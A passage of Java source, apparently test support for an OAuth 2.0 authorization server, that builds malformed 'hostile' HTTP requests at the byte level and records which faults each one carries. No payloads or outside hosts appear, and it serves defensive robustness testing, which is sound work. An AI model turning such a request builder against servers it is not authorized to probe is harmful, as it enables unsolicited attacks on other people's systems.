	record Fixtures(String sessionCookie, String accessToken, String refreshToken, String idToken,
			String initialAccessToken, String registeredClientId, String registrationAccessToken) {
	}

	/**
	 * One request as it goes on the wire, with what was wrong with it.
	 *
	 * @param tokenRequest whether it is a {@code POST} to exactly the token or the device
	 * authorization endpoint, whose errors RFC 6749 §5.2 gives the shape of
	 */
	record HostileRequest(String endpoint, String description, boolean tokenRequest, boolean head, byte[] wire) {
	}

	/**
	 * A request being built: parameters and headers as byte strings, framing added when
	 * it is built.
	 */
	private static final class Draft {

		final String endpoint;

		final String originalPath;

		String method;

		String path;

		/** The path as the server decodes it: unchanged by a respelling. */
		String decodedPath;

		final List<String> query = new ArrayList<>();

		/**
		 * Raw {@code name=value} pairs of a form body; null when the body is not a form.
		 */
		List<String> form;

		/**
		 * Members ({@code "name":value}) of a JSON object body; null when the body is not
		 * that.
		 */
		List<String> json;

		/** Any other body; null for none. */
		String body;

		final List<String> headers = new ArrayList<>();

		final List<String> applied = new ArrayList<>();

		boolean host = true;

		boolean absoluteTarget;

		String version = "HTTP/1.1";

		Draft(String endpoint, String method, String path) {
			this.endpoint = endpoint;
			this.method = method;
			this.path = path;
			this.originalPath = path;
			this.decodedPath = path;
		}

		List<String> formBody() {
			this.form = new ArrayList<>();
			this.headers.add(FORM);
			return this.form;
		}

		/**
		 * The parameters faults go to: the form's when there is one, else the query's.
		 */
		List<String> parameters() {
			return (this.form != null) ? this.form : this.query;
		}

		String jsonText() {
			return "{" + String.join(",", this.json) + "}";
		}

		HostileRequest build(String authority) {
			String content = (this.form != null) ? String.join("&", this.form)
					: (this.json != null) ? jsonText() : this.body;
			String target = (this.absoluteTarget ? "http://" + authority : "") + this.path
					+ (this.query.isEmpty() ? "" : "?" + String.join("&", this.query));
			StringBuilder head = new StringBuilder().append(this.method)
				.append(' ')
				.append(target)
				.append(' ')
				.append(this.version)
				.append("\r\n");
			if (this.host) {
				head.append("Host: ").append(authority).append("\r\n");
			}
			this.headers.forEach((header) -> head.append(header).append("\r\n"));
			byte[] body = (content != null) ? content.getBytes(StandardCharsets.ISO_8859_1) : null;
			if (body != null) {
				head.append("Content-Length: ").append(body.length).append("\r\n");
			}
			head.append("Connection: close\r\n\r\n");
			ByteArrayOutputStream wire = new ByteArrayOutputStream();
			wire.writeBytes(head.toString().getBytes(StandardCharsets.ISO_8859_1));
			if (body != null) {
				wire.writeBytes(body);
			}
			String description = this.method + " " + this.path + ": "
					+ (this.applied.isEmpty() ? "nothing wrong" : String.join(", ", this.applied));
			boolean tokenRequest = this.method.equals("POST") && JSON_ONLY_PATHS.contains(this.decodedPath)
					&& this.originalPath.equals(this.decodedPath);
			return new HostileRequest(this.endpoint, description, tokenRequest, this.method.equals("HEAD"),
					wire.toByteArray());
		}

	}

}
